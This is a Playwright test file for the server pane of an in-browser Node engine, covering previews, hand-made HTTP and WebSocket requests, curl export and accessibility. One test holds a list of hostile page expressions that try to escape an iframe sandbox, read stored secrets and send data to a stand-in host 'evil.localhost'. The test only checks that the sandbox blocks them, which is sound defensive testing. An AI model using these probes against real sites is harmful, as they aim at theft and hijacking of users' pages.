/** Servers of a program: pages in the preview, requests by hand, in the embedded engine. */
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { AxeBuilder } from '@axe-core/playwright';
import { expect, test } from '@playwright/test';
import type { BrowserContext, FrameLocator, Locator, Page } from '@playwright/test';
import type { Program } from '../src/engine/engine.ts';
import type { SavedRequest } from '../src/snippet/snippet.ts';
import { ADDRESS, openServersPage } from './servers-page.ts';

function program(code: string): Program {
  return { files: { 'main.mjs': code }, packages: [], command: ['node', 'main.mjs'], env: {} };
}

/** A server with a table of handlers, by path; `more` is done before it listens. */
function site(handlers: Readonly<Record<string, string>>, more = ''): Program {
  const table = Object.entries(handlers).map(
    ([path, body]) => `${JSON.stringify(path)}: async (req, res, url) => { ${body} }`,
  );
  return program(`
    import { createServer } from 'node:http';
    import { text } from 'node:stream/consumers';
    const html = (res, body, head = '') => {
      res.setHeader('Content-Type', 'text/html; charset=utf-8');
      res.end('<!doctype html><html lang="en"><head><title>Page</title>' + head + '</head><body>' + body + '</body></html>');
    };
    const handlers = { ${table.join(',\n')} };
    const server = createServer(async (req, res) => {
      const url = new URL(req.url, 'http://localhost');
      const handler = handlers[url.pathname];
      if (handler) return handler(req, res, url);
      res.statusCode = 404;
      html(res, '<h1>Nothing here</h1>');
    });
    ${more}
    server.listen(8080);
  `);
}

class Pane {
  readonly page: Page;
  readonly element: Locator;
  readonly address: Locator;
  /** The page in the preview. */
  readonly inside: FrameLocator;
  readonly answer: Locator;
  readonly send: Locator;

  constructor(page: Page) {
    this.page = page;
    this.element = page.getByRole('region', { name: 'Server of the program' });
    this.address = this.element.getByRole('textbox', { name: 'Address' });
    this.inside = page.frameLocator('.preview:not([hidden]) > iframe').frameLocator('iframe');
    this.answer = this.element.getByRole('region', { name: 'Answer', exact: true });
    this.send = this.element.getByRole('button', { name: 'Send', exact: true });
  }

  tab(name: string): Locator {
    return this.element.getByRole('tab', { name });
  }

  async request(method: string, path: string, headers = '', body = ''): Promise<void> {
    await this.element.getByLabel('Method').selectOption(method);
    await this.element.getByRole('textbox', { name: 'Path' }).fill(path);
    if (headers !== '' || body !== '') {
      const more = this.element.getByText('Headers and body');
      if (!(await this.element.getByRole('textbox', { name: 'Body' }).isVisible())) await more.click();
      await this.element.getByLabel('Headers, one a line').fill(headers);
      await this.element.getByRole('textbox', { name: 'Body' }).fill(body);
    }
    await this.send.click();
  }
}

async function open(
  context: BrowserContext,
  run: Program,
  {
    saved = [],
    isIsolated = true,
    servesItself = false,
  }: {
    readonly saved?: readonly SavedRequest[];
    readonly isIsolated?: boolean;
    readonly servesItself?: boolean;
  } = {},
): Promise<Pane> {
  const page = await openServersPage(context, { isIsolated });
  await page.evaluate(([given, requests, isOwn]) => window.servers.run(given, requests, isOwn), [
    run,
    saved,
    servesItself,
  ] as const);
  return new Pane(page);
}

for (const isIsolated of [true, false]) {
  test(`a page opens in the preview, with links, forms and styles, ${isIsolated ? 'isolated' : 'not isolated'}`, async ({
    context,
  }) => {
    const pane = await open(
      context,
      site({
        '/': `html(res, '<h1>Home</h1><a href="about?x=1#end">About</a><form action="/search"><label>Words <input name="q"></label><button>Search</button></form>' +
          '<form method="post" action="/add"><label>Note <input name="note"></label><button name="kind" value="a b">Add</button></form>' +
          '<form method="post" action="/upload" enctype="multipart/form-data"><label>File <input type="file" name="file"></label><button>Upload</button></form>',
          '<link rel="stylesheet" href="/style.css"><script src="/app.js" defer></script>')`,
        '/style.css': `res.setHeader('Content-Type', 'text/css'); res.end('h1 { color: rgb(1, 2, 3) }')`,
        '/app.js': `res.setHeader('Content-Type', 'text/javascript'); res.end('document.querySelector("h1").append(" with a script")')`,
        '/about': `html(res, '<h1>About ' + url.search + '</h1><a href="/">Home</a>')`,
        '/search': `html(res, '<h1>Found ' + url.searchParams.get('q') + '</h1>')`,
        '/add': `const body = await text(req); res.writeHead(303, { Location: '/added?' + new URLSearchParams({ body, type: req.headers['content-type'], method: req.method }) }).end()`,
        '/added': `html(res, '<h1>' + url.searchParams.get('method') + ' ' + url.searchParams.get('type') + ' ' + url.searchParams.get('body') + '</h1>')`,
        '/upload': `const body = await text(req); html(res, '<h1>' + (req.headers['content-type'] ?? 'no type').split(';')[0] + '</h1><pre>' + body + '</pre>')`,
      }),
      { isIsolated },
    );
    await expect(pane.tab('Preview')).toHaveAttribute('aria-selected', 'true');
    const heading = pane.inside.getByRole('heading');
    await expect(heading).toHaveText('Home with a script');
    await expect(heading).toHaveCSS('color', 'rgb(1, 2, 3)');
    await expect(pane.address).toHaveValue('/');

    await pane.inside.getByRole('link', { name: 'About' }).click();
    await expect(heading).toHaveText('About ?x=1');
    await expect(pane.address).toHaveValue('/about?x=1#end');
    await pane.element.getByRole('button', { name: 'Back' }).click();
    await expect(heading).toHaveText('Home with a script');

    await pane.inside.getByLabel('Words').fill('a&b');
    await pane.inside.getByRole('button', { name: 'Search' }).click();
    await expect(heading).toHaveText('Found a&b');
    await pane.element.getByRole('button', { name: 'Back' }).click();

    await pane.inside.getByLabel('Note').fill('é=1');
    await pane.inside.getByRole('button', { name: 'Add' }).click();
    await expect(heading).toHaveText('POST application/x-www-form-urlencoded note=%C3%A9%3D1&kind=a+b');
    await expect(pane.address).toHaveValue(/^\/added\?/);
    await pane.address.fill('/');
    await pane.address.press('Enter');

    await pane.inside
      .getByLabel('File')
      .setInputFiles({ name: 'a.txt', mimeType: 'text/plain', buffer: Buffer.from('hello file') });
    await pane.inside.getByRole('button', { name: 'Upload' }).click();
    await expect(heading).toHaveText('multipart/form-data');
    await expect(pane.inside.locator('pre')).toContainText('filename="a.txt"');
    await expect(pane.inside.locator('pre')).toContainText('hello file');
    await pane.element.getByRole('button', { name: 'Back' }).click();
    await expect(heading).toHaveText('Home with a script');
    await pane.element.getByRole('button', { name: 'Forward' }).click();
    await expect(heading).toHaveText('no type');
  });
}

test('scripts of a page reach the program, and only it', async ({ context }) => {
  const pane = await open(
    context,
    site(
      {
        '/': `html(res, '<h1>Scripts</h1><pre></pre><img alt="dot" src="dot.svg"><img alt="set" id="set">', '<script type="module" src="/main.js"></script>')`,
        '/dot.svg': `res.setHeader('Content-Type', 'image/svg+xml'); res.end('<svg xmlns="http://www.w3.org/2000/svg" width="7" height="5"><rect width="7" height="5"/></svg>')`,
        '/main.js': `res.setHeader('Content-Type', 'text/javascript'); res.end(${JSON.stringify(`
          import { say } from './say.js';
          const answer = await fetch('/echo?a=1', { method: 'POST', body: JSON.stringify({ x: 'é' }), headers: { 'Content-Type': 'application/json', 'X-Own': 'yes' } });
          say('fetch', answer.status, answer.url, answer.headers.get('x-answer'), await answer.text());
          say('missing', (await fetch('missing')).ok);
          say('redirected', (await fetch('/moved')).redirected);
          say('outside', await fetch('https://example.com/').catch((error) => error.name + ': ' + error.message));
          const request = new XMLHttpRequest();
          request.open('PUT', location.origin + '/echo');
          request.responseType = 'json';
          request.onload = () => {
            say('xhr', request.status, request.response.method, request.response.body);
            const events = new EventSource('/events');
            events.addEventListener('tick', ({ data, lastEventId }) => {
              say('event', data, lastEventId);
              if (data === '2') {
                events.close();
                const socket = new WebSocket('ws://' + location.host + '/chat', ['one']);
                socket.onopen = () => socket.send('hello');
                socket.onmessage = ({ data }) => { say('socket', socket.protocol, data); socket.close(4000, 'enough'); };
                socket.onclose = ({ code, wasClean }) => say('closed', code, wasClean);
              }
            });
          };
          request.send('text');
          const later = document.createElement('script');
          later.onload = () => say('later', globalThis.later);
          later.src = '/later.js';
          document.head.append(later);
          document.querySelector('#set').src = '/dot.svg';
        `)})`,
        '/say.js': `res.setHeader('Content-Type', 'text/javascript'); res.end(${JSON.stringify(`
          const pre = document.querySelector('pre');
          export const say = (...words) => pre.append(words.join(' ') + ' | ');
        `)})`,
        '/later.js': `res.setHeader('Content-Type', 'text/javascript'); res.end('globalThis.later = location.pathname')`,
        '/echo': `res.setHeader('X-Answer', req.headers['x-own'] ?? ''); res.end(JSON.stringify({ method: req.method, body: await text(req) }))`,
        '/moved': `res.writeHead(302, { Location: '/echo' }).end()`,
        '/events': `res.setHeader('Content-Type', 'text/event-stream'); res.write('event: tick\\nid: 7\\ndata: 1\\n\\n'); setTimeout(() => res.write('event: tick\\ndata: 2\\n\\n'), 20)`,
      },
      `
      const { WebSocketServer } = await import('ws');
      new WebSocketServer({ server, path: '/chat' }).on('connection', (socket) => socket.on('message', (message) => socket.send('echo ' + message)));
    `,
    ),
  );
  const said = pane.inside.locator('pre');
  for (const line of [
    String.raw`fetch 200 http://localhost:8080/echo?a=1 yes {"method":"POST","body":"{\"x\":\"é\"}"}`,
    'missing false',
    'redirected true',
    'outside TypeError: Failed to fetch',
    'xhr 200 PUT text',
    'event 1 7',
    'event 2 7',
    'socket one echo hello',
    'closed 4000 true',
    'later /',
  ])
    await expect(said).toContainText(line);
  for (const name of ['dot', 'set'])
    await expect
      .poll(() => pane.inside.getByAltText(name).evaluate((image: HTMLImageElement) => image.naturalWidth))
      .toBe(7);
});

const api = site({
  '/': `res.setHeader('Content-Type', 'application/json'); res.end('{"notes":[1,2.0],"name":"é"}')`,
  '/echo': `res.setHeader('Content-Type', 'text/plain'); res.end(req.method + ' ' + req.headers['x-own'] + ' ' + await text(req))`,
  '/events': `res.setHeader('Content-Type', 'text/event-stream'); res.write('retry: 1500\\nid: 7\\ndata: first\\n\\n'); req.on('close', () => console.log('gone')); setTimeout(() => res.write('event: add\\ndata: second\\ndata: line\\n\\n'), 20)`,
  '/bytes': `res.setHeader('Content-Type', 'application/octet-stream'); res.end(Buffer.from([0, 1, 2, 255]))`,
  '/dot': `res.setHeader('Content-Type', 'image/svg+xml'); res.end('<svg xmlns="http://www.w3.org/2000/svg" width="7" height="5"/>')`,
  '/long': `res.setHeader('Content-Type', 'text/plain'); res.end('x'.repeat(300_000))`,
  '/wrong': `res.setHeader('Content-Type', 'application/json'); res.end('{')`,
  '/broken': `res.setHeader('Content-Length', 100); res.write('half'); setTimeout(() => res.destroy(), 20)`,
  '/cut': `res.setHeader('Content-Length', 100); res.flushHeaders(); setTimeout(() => res.destroy(), 20)`,
  '/html': `html(res, '<script>document.title = "run"</script>')`,
});

const saved: readonly SavedRequest[] = [
  {
    title: 'All notes',
    method: 'GET',
    path: '/',
    headers: [],
    recorded: {
      status: 200,
      statusText: 'OK',
      headers: [['Content-Type', 'application/json']],
      body: '{"notes":[1,2.0],"name":"é"}',
    },
  },
  {
    method: 'POST',
    path: '/echo',
    headers: [['X-Own', 'yes']],
    body: 'hello',
    recorded: { status: 201, statusText: 'Created', headers: [], body: 'POST yes hello' },
  },
];

test('requests of the chapter: the recorded answer first, then the own one beside it', async ({
  context,
}) => {
  const pane = await open(context, api, { saved });
  await expect(pane.tab('Requests')).toHaveAttribute('aria-selected', 'true');
  await expect(pane.answer).toContainText('Recorded on real Node');
  await expect(pane.answer).toContainText('200 OK: success.');
  await expect(pane.answer.getByRole('region', { name: 'Body of the answer' })).toHaveText(
    '{\n  "notes": [\n    1,\n    2.0\n  ],\n  "name": "é"\n}',
  );
  await pane.answer.getByRole('button', { name: 'Show as sent' }).click();
  await expect(pane.answer.getByRole('region', { name: 'Body of the answer' })).toHaveText(
    '{"notes":[1,2.0],"name":"é"}',
  );
  expect(await pane.page.evaluate(() => window.servers.printed)).toBe('');

  await pane.element.getByRole('button', { name: /^All notes/ }).click();
  await expect(pane.answer).toContainText(/200 OK: success\. Head after .*, all after .*, 29 bytes\./);
  await expect(pane.answer).toContainText('Same as recorded on real Node.');
  await expect(pane.answer.getByRole('region', { name: 'Body of the answer' })).toContainText('"notes": [');

  await pane.element.getByRole('button', { name: /^POST \/echo/ }).click();
  await expect(pane.answer.getByRole('region', { name: 'Body of the answer' })).toHaveText('POST yes hello');
  await expect(pane.answer).toContainText('The status differs from the recording, which has 201.');
  await pane.element.getByRole('textbox', { name: 'Body' }).fill('other');
  await pane.send.click();
  await expect(pane.answer.getByRole('region', { name: 'Body of the answer' })).toHaveText('POST yes other');
  // What it differs from would be said at its end.
  await expect(pane.answer).toContainText(/, all after .*, 14 bytes\./);
  await expect(pane.answer).not.toContainText('recording');
});

test('a program that asks its own server is asked by the reader alone', async ({ context }) => {
  const pane = await open(
    context,
    program(`
      import { createServer } from 'node:http';
      createServer((req, res) => {
        console.log('asked for', req.url);
        res.setHeader('Content-Type', 'text/html');
        res.end('<h1>A page</h1>');
      }).listen(8080);
    `),
    { servesItself: true },
  );
  await pane.request('GET', '/by-hand');
  await expect(pane.answer).toContainText('200 OK');
  const printed = () => pane.page.evaluate(() => window.servers.printed);
  await expect.poll(printed).toBe('asked for /by-hand\n');
  await pane.tab('Preview').click();
  await expect(pane.inside.getByRole('heading')).toHaveText('A page');
  await expect.poll(printed).toBe('asked for /by-hand\nasked for /\n');
});

test('any request, its history, and the command for a terminal', async ({ context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const pane = await open(context, api);
  await pane.request('PUT', 'echo', "X-Own: it's", 'a "b"');
  await expect(pane.answer.getByRole('region', { name: 'Body of the answer' })).toHaveText(`PUT it's a "b"`);
  await pane.answer.getByText(/\d+ headers/).click();
  await expect(pane.answer.getByRole('region', { name: 'Headers of the answer' })).toContainText(
    'Content-Type: text/plain',
  );
  await pane.element.getByRole('button', { name: 'Copy as curl' }).click();
  await expect(pane.element).toContainText('Copied.');
  expect(await pane.page.evaluate(() => navigator.clipboard.readText())).toBe(
    String.raw`curl \
  --request PUT \
  http://localhost:8080/echo \
  --header 'X-Own: it'\''s' \
  --header 'Content-Type:' \
  --data-raw 'a "b"'`,
  );
  await pane.request('GET', '/nothing', ' ', '');
  await expect(pane.answer).toContainText('404 Not Found: the request was refused.');
  await pane.element.getByText('Sent before (2)').click();
  await pane.element.getByRole('button', { name: /^PUT localhost:8080\/echo 200/ }).click();
  await expect(pane.answer.getByRole('region', { name: 'Body of the answer' })).toHaveText(`PUT it's a "b"`);
  await expect(pane.element.getByText('Sent before (3)')).toBeVisible();

  await pane.request('GET', '/', '', 'body');
  await expect(pane.answer).toContainText('A GET has no body.');
  await pane.request('POST', '/', 'nonsense', 'body');
  await expect(pane.answer).toContainText('Line 1 of the headers has no colon.');
  await expect(pane.element.getByLabel('Headers, one a line')).toBeFocused();
});

test('each kind of body as what it is', async ({ context }) => {
  const pane = await open(context, api);
  await pane.request('GET', '/bytes');
  await expect(pane.answer).toContainText('00000000  00 01 02 ff');
  await expect(pane.answer).toContainText('4 bytes');
  await pane.request('GET', '/dot');
  await expect(pane.answer.getByRole('img')).toBeVisible();
  await expect(pane.answer).toContainText('7 × 5 pixels');
  await pane.request('GET', '/long');
  await expect(pane.answer).toContainText('Only the first 200,000 characters are shown, of 300 kB.');
  await pane.request('GET', '/wrong');
  await expect(pane.answer).toContainText('it is no JSON');
  await pane.request('GET', '/html');
  await expect(pane.answer).toContainText('<script>document.title = "run"</script>');
  await expect(pane.page).toHaveTitle('Servers');
  await pane.request('GET', '/broken');
  await expect(pane.answer.getByRole('status').first()).toHaveText(
    'The server closed the connection before the end of its answer.',
  );
  await expect(pane.answer).toContainText('half');
  await pane.request('GET', '/cut');
  await expect(pane.answer).toContainText('Nothing of the body came.');
  await pane.request('HEAD', '/');
  await expect(pane.answer).toContainText('The answer has no body.');
});

test('events one by one, until they are cancelled', async ({ context }) => {
  const pane = await open(context, api);
  await pane.request('GET', '/events');
  const events = pane.answer.getByRole('log', { name: 'Events' }).getByRole('listitem');
  await expect(events).toHaveText([
    /\d (?:ms|s)event: message, id: 7, retry: 1500first/,
    /event: add, id: 7second\nline/,
  ]);
  await expect(pane.answer).toContainText('2 events. After a loss, a browser connects again in 1.5 s.');
  await pane.element.getByRole('button', { name: 'Cancel' }).click();
  await expect(pane.answer).toContainText('Cancelled.');
  await expect.poll(() => pane.page.evaluate(() => window.servers.printed)).toBe('gone\n');
});

test('a WebSocket by hand', async ({ context }) => {
  const pane = await open(
    context,
    program(`
      import { WebSocketServer } from 'ws';
      const server = new WebSocketServer({ port: 8080, handleProtocols: (offered) => [...offered].at(-1) });
      server.on('connection', (socket, request) => {
        socket.send('welcome ' + request.url);
        socket.on('message', (data) => String(data) === 'bytes' ? socket.send(Buffer.from([1, 2])) : socket.send('echo ' + data));
      });
    `),
  );
  await pane.element.getByRole('radio', { name: 'WebSocket' }).check();
  await pane.element.getByRole('textbox', { name: 'Path' }).fill('/chat');
  await pane.element.getByLabel('Protocols').fill('one, two');
  await pane.element.getByRole('button', { name: 'Connect' }).click();
  await expect(pane.element).toContainText(/Connected after .*, protocol two\./);
  const messages = pane.element.getByRole('log', { name: 'Messages' }).getByRole('listitem');
  await expect(messages).toHaveText([/received.*welcome \/chat/]);
  const message = pane.element.getByLabel('Message', { exact: true });
  await expect(message).toBeFocused();
  await message.fill('hello');
  await message.press('Control+Enter');
  await expect(messages).toHaveText([/welcome/, /sent.*hello/, /received.*echo hello/]);
  await message.fill('bytes');
  await pane.element.getByRole('button', { name: 'Send', exact: true }).last().click();
  await expect(messages.last()).toContainText('received, 2 bytes');
  await pane.element.getByLabel('Code').fill('1001');
  await pane.element.getByRole('button', { name: 'Close' }).click();
  await expect(pane.element).toContainText('A WebSocket is closed with 1000 or 3000 to 4999, not with 1001.');
  await pane.element.getByLabel('Code').fill('4000');
  await pane.element.getByRole('button', { name: 'Close' }).click();
  await expect(pane.element).toContainText('Closed with code 4000');
  await expect(pane.element.getByRole('button', { name: 'Connect' })).toBeFocused();
  await pane.element.getByLabel('Protocols').fill('two words');
  await pane.element.getByRole('button', { name: 'Connect' }).click();
  await expect(pane.element).toContainText('“two words” is no name of a protocol');
});

test('where another connection fails there is nobody to write to', async ({ context }) => {
  const pane = await open(
    context,
    program(`
      import { WebSocketServer } from 'ws';
      const server = new WebSocketServer({ port: 8080, path: '/chat' });
      server.on('connection', (socket) => socket.send('welcome'));
    `),
  );
  await pane.element.getByRole('radio', { name: 'WebSocket' }).check();
  await pane.element.getByRole('textbox', { name: 'Path' }).fill('/chat');
  await pane.element.getByRole('button', { name: 'Connect' }).click();
  const message = pane.element.getByLabel('Message', { exact: true });
  await expect(message).toBeFocused();
  await pane.element.getByRole('textbox', { name: 'Path' }).fill('/elsewhere');
  await pane.element.getByRole('button', { name: 'Connect again' }).click();
  await expect(pane.element).toContainText('/elsewhere');
  await expect(message).toBeHidden();
  await expect(pane.element.getByRole('button', { name: 'Connect', exact: true })).toBeVisible();
});

test('a page that is not secure sends requests', async ({ context }) => {
  await context.addInitScript(() => {
    Object.defineProperty(crypto, 'randomUUID', { value: undefined });
    Object.defineProperty(navigator, 'clipboard', { value: undefined });
  });
  const pane = await open(context, api);
  await pane.request('PUT', '/echo', '', 'sent');
  await expect(pane.answer.getByRole('region', { name: 'Body of the answer' })).toHaveText(
    'PUT undefined sent',
  );
  await pane.element.getByRole('button', { name: 'Copy as curl' }).click();
  await expect(pane.element).toContainText('The browser did not let it be copied.');
});

test('of a long answer the beginning is shown', async ({ context }) => {
  const pane = await open(
    context,
    site({
      '/text': `res.setHeader('Content-Type', 'text/plain'); for (let i = 0; i < 30; i++) res.write('x'.repeat(10_000)); res.end()`,
      '/bytes': `res.setHeader('Content-Type', 'application/octet-stream'); for (let i = 0; i < 30; i++) res.write(Buffer.alloc(1000, i)); res.end()`,
    }),
  );
  await pane.tab('Requests').click();
  await pane.request('GET', '/text');
  const body = pane.answer.getByRole('region', { name: /^Body of the answer/ });
  await expect(pane.answer).toContainText('Only the first 200,000 characters are shown, of 300 kB.');
  expect((await body.textContent())?.length).toBe(200_000);
  await pane.request('GET', '/bytes');
  await expect(pane.answer).toContainText('30 kB, of which the first 4.1 kB are shown.');
  expect((await body.textContent())?.split('\n')).toHaveLength(256);
});

test('several ports, with the rules between them, and the end of the program', async ({ context }) => {
  const pane = await open(
    context,
    program(`
      import { createServer } from 'node:http';
      const page = createServer((req, res) => {
        res.setHeader('Content-Type', 'text/html').setHeader('Set-Cookie', ['seen=1', 'secret=2; HttpOnly']);
        res.end('<h1>One</h1><p>' + req.headers.cookie + '</p><pre></pre><script>(async () => {' +
          'const ask = (path) => fetch("http://localhost:8081" + path).then((answer) => answer.text(), () => "refused");' +
          'document.querySelector("pre").textContent = [await ask("/open"), await ask("/closed"), document.cookie].join();' +
        '})()</script>');
      });
      page.listen(8080, () => createServer((req, res) => {
        if (req.url === '/end') { page.close(); page.closeAllConnections(); }
        if (req.url === '/open') res.setHeader('Access-Control-Allow-Origin', 'http://localhost:8080');
        res.end('two ' + req.headers.origin);
      }).listen(8081));
    `),
  );
  await expect(pane.inside.locator('pre')).toHaveText('two http://localhost:8080,refused,seen=1');
  await pane.element.getByRole('button', { name: 'Reload' }).click();
  await expect(pane.inside.locator('p')).toHaveText('seen=1; secret=2');
  const server = pane.element.getByRole('combobox', { name: 'Server' });
  await server.selectOption('localhost:8081');
  await expect(pane.inside.locator('pre')).toHaveText('two undefined');
  await pane.tab('Requests').click();
  await pane.request('GET', '/end');
  await expect(pane.element).toContainText('The server on port 8080 does not listen any more.');
  await expect(server).toBeHidden();
  // The program takes what is still under way with it.
  await expect(pane.answer).toContainText(/, all after .*, 13 bytes\./);
  await pane.page.evaluate(() => window.servers.stop());
  await expect(pane.element).toContainText('The program has ended.');
  await expect(pane.answer).toContainText('two undefined');
  await pane.send.click();
  await expect(pane.answer).toContainText('The program has ended.');
});

/** What a hostile page tries, one expression each; what gives a text about the site has got in. */
const attacks = [
  `top.location = EVIL + '/top'`,
  `parent.location = EVIL + '/parent'`,
  `top.document.title = 'taken'`,
  `parent.document.title = 'taken'`,
  `top.servers.stop()`,
  `localStorage.getItem('secret')`,
  `sessionStorage.getItem('secret')`,
  `indexedDB.open('secret')`,
  `caches.keys()`,
  `open(EVIL + '/popup')`,
  `navigator.serviceWorker.register('/sw.js')`,
  `new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example' }] })`,
  `new Worker(EVIL + '/worker.js')`,
  `document.body.append(Object.assign(document.createElement('iframe'), { src: EVIL + '/frame' }))`,
  `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>fetch("' + EVIL + '/nested")</' + 'script><img src=' + EVIL + '/nested.png>' }))`,
  `document.body.append(Object.assign(document.createElement('object'), { data: EVIL + '/object' }))`,
  `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: EVIL + '/prefetch' }))`,
  `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [EVIL + '/speculation'] }] }) }))`,
  `document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { background: url(' + EVIL + '/style.png) }' }))`,
  `document.body.insertAdjacentHTML('beforeend', '<img src=' + EVIL + '/img.png><video src=' + EVIL + '/video poster=' + EVIL + '/poster.png></video><svg><image href=' + EVIL + '/svg.png></svg>')`,
  `(() => { const frame = document.createElement('iframe'); document.body.append(frame); return frame.contentWindow.fetch(EVIL + '/iframe-fetch') })()`,
  `(() => { const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.HTMLFormElement.prototype.submit.call(Object.assign(document.body.appendChild(document.createElement('form')), { action: EVIL + '/form' })) })()`,
  `import(EVIL + '/module.js')`,
  `fetch(EVIL + '/fetch')`,
  `new WebSocket(EVIL.replace('http', 'ws') + '/socket')`,
  `new EventSource(EVIL + '/events')`,
  `navigator.sendBeacon(EVIL + '/beacon', 'x')`,
  `parent.parent.postMessage({ type: 'navigate', request: {} }, '*')`,
  `parent.postMessage('loopbook:preview-ready', '*')`,
];

/** A server outside, which Chromium finds by this name, and what reached it. */
async function serveOutside(): Promise<{ origin: string; asked: string[]; server: Server }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    // Else the browser asks for the icon of the page as well, at a time of its own.
    response.setHeader('Content-Type', 'text/html').end('<link rel="icon" href="data:,">');
  });
  await new Promise<void>((listening) => server.listen(0, listening));
  // True: it listens on a port, not on a pipe.
  const { port } = server.address() as AddressInfo;
  return { origin: `http://evil.localhost:${port}`, asked, server };
}

test('a hostile page stays in its sandbox', async ({ context }) => {
  const { origin, asked, server } = await serveOutside();
  const witness = await context.newPage();
  await witness.goto(`${origin}/reachable`);
  await witness.close();
  expect(asked.splice(0)).toContain('/reachable');
  const page = await openServersPage(context);
  await page.evaluate(() => {
    localStorage.setItem('secret', 'of the site');
    document.cookie = 'secret=of-the-site';
  });
  const attack = `
    const EVIL = '${origin}';
    (async () => {
      const got = [];
      for (const attack of ${JSON.stringify(attacks)}) {
        try {
          const value = await Promise.race([eval(attack), new Promise((resolve) => setTimeout(resolve, 500))]);
          if (String(value).includes('site')) got.push(attack);
        } catch {}
      }
      document.querySelector('pre').textContent = 'done ' + got.join() + document.cookie;
    })();`;
  const hostile = site({
    '/': `html(res, '<h1>Hostile</h1><a target="_top" href="/inside">Inside</a><a href="${origin}/link">Away</a><pre></pre>' +
      '<form method="post" target="_top" action="${origin}/form"><button>Post</button></form><script src="/attack.js"></script>',
      '<link rel="preconnect" href="${origin}"><link rel="icon" href="${origin}/icon.png"><link rel="stylesheet" href="${origin}/style.css">')`,
    '/attack.js': `res.setHeader('Content-Type', 'text/javascript'); res.end(${JSON.stringify(attack)})`,
    '/inside': `html(res, '<h1>Inside</h1>')`,
    '/refresh': `html(res, '<h1>Refresh</h1>', '<base href="${origin}/"><meta http-equiv="refresh" content="0; url=/refresh">')`,
    '/by-script': `html(res, '<h1>By script</h1><script>globalThis["loc" + "ation"].href = "${origin}/script"</script>')`,
  });
  await page.evaluate(([given]) => window.servers.run(given, [], false), [hostile] as const);
  const pane = new Pane(page);
  await expect(pane.inside.locator('pre')).toHaveText('done ');
  await pane.inside.getByRole('link', { name: 'Away' }).click();
  await expect(pane.element).toContainText(`${origin}/link, which is outside of the program.`);
  await pane.inside.getByRole('button', { name: 'Post' }).click();
  await expect(pane.element).toContainText(`${origin}/form, which is outside of the program.`);
  await pane.inside.getByRole('link', { name: 'Inside' }).click();
  await expect(pane.inside.getByRole('heading')).toHaveText('Inside');
  await pane.address.fill('/refresh');
  await pane.address.press('Enter');
  await expect(pane.element).toContainText(`${origin}/refresh, which is outside of the program.`);
  await pane.address.fill('/by-script');
  await pane.address.press('Enter');
  await expect(pane.element).toContainText('by a script in a way that the preview cannot follow');
  await expect(page).toHaveTitle('Servers');
  expect(page.url()).toBe(ADDRESS);
  expect(context.pages()).toHaveLength(1);
  expect(await page.evaluate(() => window.servers.printed)).toBe('');
  expect(asked).toEqual([]);
  server.close();
});

test('a page that floods its port, leads in circles, or goes away by itself is stopped', async ({
  context,
}) => {
  const pane = await open(
    context,
    site({
      '/': `html(res, '<h1>Start</h1>')`,
      '/circle': `html(res, '<h1>Circle</h1><script>location.reload()</script>')`,
      '/flood': `html(res, '<h1>Flood</h1><script>setInterval(() => { for (let count = 0; count < 100000; count++) document.cookie = "a=" + count; })</script>')`,
      '/nested': `html(res, '<h1>Nested</h1><script>for (let count = 0; count < 500; count++) fetch("/never").catch(() => {})</script>')`,
      '/never': '',
    }),
  );
  await expect(pane.inside.getByRole('heading')).toHaveText('Start');
  await pane.address.fill('/circle');
  await pane.address.press('Enter');
  await expect(pane.element).toContainText(
    'The page leads from one to the next without end, so it was stopped.',
  );
  await pane.address.fill('/nested');
  await pane.address.press('Enter');
  await expect(pane.inside.getByRole('heading')).toHaveText('Nested');
  await pane.address.fill('/flood');
  await pane.address.press('Enter');
  await expect(pane.element).toContainText('The page sends more than the preview can read');
});

async function expectNoViolations(page: Page): Promise<void> {
  const { violations } = await new AxeBuilder({ page })
    .include('.server-pane')
    .exclude('.preview-frame')
    .analyze();
  expect(violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`)).toEqual([]);
}

for (const viewport of [
  { width: 1366, height: 900 },
  { width: 390, height: 844 },
]) {
  for (const colorScheme of ['light', 'dark'] as const) {
    test.describe(`at ${viewport.width} pixels, ${colorScheme}`, () => {
      test.use({ viewport, colorScheme });

      test('everything can be read by a screen reader, and fits', async ({ context }) => {
        const pane = await open(context, api, { saved });
        await pane.element.getByRole('button', { name: /^All notes/ }).click();
        await expect(pane.answer).toContainText('Same as recorded');
        await expectNoViolations(pane.page);
        await pane.element.getByRole('button', { name: /^POST \/echo/ }).click();
        await expect(pane.answer).toContainText('differs');
        await pane.element.getByText('Sent before').click();
        await expectNoViolations(pane.page);
        await pane.request('GET', '/events', ' ', '');
        await expect(pane.answer.getByRole('listitem')).toHaveCount(2);
        await expectNoViolations(pane.page);
        await pane.element.getByRole('radio', { name: 'WebSocket' }).check();
        await pane.element.getByRole('button', { name: 'Connect' }).click();
        await expect(pane.element).toContainText('it takes no WebSocket');
        await expectNoViolations(pane.page);
        await pane.tab('Preview').click();
        await pane.address.fill('/html');
        await pane.address.press('Enter');
        await expect(pane.inside.locator('title')).toHaveJSProperty('text', 'run');
        await expect(pane.address).toHaveValue('/html');
        await expectNoViolations(pane.page);
        const width = await pane.page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
        expect(width).toBeLessThanOrEqual(0);
      });
    });
  }
}

test('by keyboard alone', async ({ context }) => {
  const pane = await open(context, api, { saved });
  const { keyboard } = pane.page;
  await pane.tab('Requests').focus();
  await keyboard.press('ArrowLeft');
  await expect(pane.tab('Preview')).toBeFocused();
  await expect(pane.address).toBeVisible();
  await keyboard.press('ArrowLeft');
  await expect(pane.tab('Requests')).toBeFocused();
  await keyboard.press('Tab');
  await expect(pane.element.getByRole('radio', { name: 'HTTP' })).toBeFocused();
  await keyboard.press('Tab');
  await keyboard.press('Enter');
  await expect(pane.answer).toContainText('Same as recorded');
  await pane.element.getByRole('textbox', { name: 'Path' }).focus();
  await keyboard.press('ControlOrMeta+A');
  await keyboard.type('/events');
